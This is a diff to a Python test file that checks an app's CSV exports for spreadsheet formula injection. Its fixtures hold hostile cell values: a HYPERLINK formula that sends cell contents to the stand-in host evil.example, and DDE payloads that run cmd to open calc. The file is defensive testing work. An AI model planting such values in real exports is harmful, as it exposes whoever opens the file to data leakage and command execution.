@@ -10,15 +10,14 @@ import pytest
 from click.testing import CliRunner
 
 from app.cli.main import main
-from app.models import Unit, User
+from app.models import Unit
 from app.services import audit, org
 from app.services.csv_cells import safe_cell
-from app.services.users import create_user
-from tests.factories import PASSWORD, make_document
+from tests.factories import make_document
 from tests.security.access_world import build, close
 
 SUBJECT, SENDER, NOMOR = '=HYPERLINK("http://evil.example/?x="&A1,"klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1-1"
-EVIL_USER = "-2+3+cmd"
+EVIL_OBJECT = "-2+3+cmd|' /C calc'!A0"     # usernames cannot start so; any text cell is checked
 
 
 @pytest.fixture(scope="module")
@@ -28,8 +27,7 @@ def world(tmp_path_factory):
         doc = make_document(s, ["Surat formula"], nomor=NOMOR, perihal=SUBJECT, sender=SENDER,
                             tanggal_surat=date(2020, 1, 1), unit_id=built.units["sekretariat"])
         built.docs["formula"] = doc.id
-        evil = create_user(s, EVIL_USER, PASSWORD, "staf")
-        audit.record(s, audit.Action.VIEWED, actor=evil, document_id=doc.id, page="\t=1+1")
+        audit.record(s, audit.Action.VIEWED, document_id=doc.id, object_type=EVIL_OBJECT, page="\t=1+1")
         s.add(Unit(code="EVIL", name="=cmd|'/C calc'!A0"))
     yield built
     close(built)
@@ -59,7 +57,7 @@ def test_retention_list_export(world):
 
 def test_audit_export_web_and_cli(world, tmp_path, monkeypatch):
     response = world.client("records").get(f"/retensi/audit?document={world.docs['formula']}&format=csv")
-    _assert_neutral(_cells(response.get_data(as_text=True)), EVIL_USER)
+    _assert_neutral(_cells(response.get_data(as_text=True)), EVIL_OBJECT)
     monkeypatch.setenv("LONTAR_DATA_DIR", str(world.runtime.settings.data_dir))
     monkeypatch.setenv("LONTAR_SECRET_KEY", "test-secret")
     monkeypatch.delenv("SEARCH_URL", raising=False)
@@ -68,10 +66,10 @@ def test_audit_export_web_and_cli(world, tmp_path, monkeypatch):
     result = CliRunner().invoke(main, ["audit", "export", "--document", str(world.docs["formula"]), "-o", str(out)],
                                 catch_exceptions=False)
     assert result.exit_code == 0, result.output
-    _assert_neutral(_cells(out.read_text(encoding="utf-8")), EVIL_USER)
+    _assert_neutral(_cells(out.read_text(encoding="utf-8")), EVIL_OBJECT)
 
 
 def test_org_export(world):
     with world.runtime.session_scope() as s:
         _assert_neutral(_cells(org.export_csv(s)), "=cmd|'/C calc'!A0")
-        assert s.query(User).filter_by(username=EVIL_USER).one()     # the value itself is kept as typed
+        assert s.query(Unit).filter_by(code="EVIL").one().name.startswith("=")   # stored as typed
